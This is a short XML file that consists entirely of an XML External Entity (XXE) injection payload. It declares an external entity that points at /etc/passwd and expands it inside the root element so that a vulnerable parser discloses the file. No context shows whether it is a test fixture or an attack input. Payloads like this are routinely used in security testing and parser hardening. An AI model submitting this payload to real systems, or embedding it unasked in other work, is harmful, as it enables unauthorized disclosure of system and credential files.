<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "/etc/passwd">]>
<x>&e;</x>
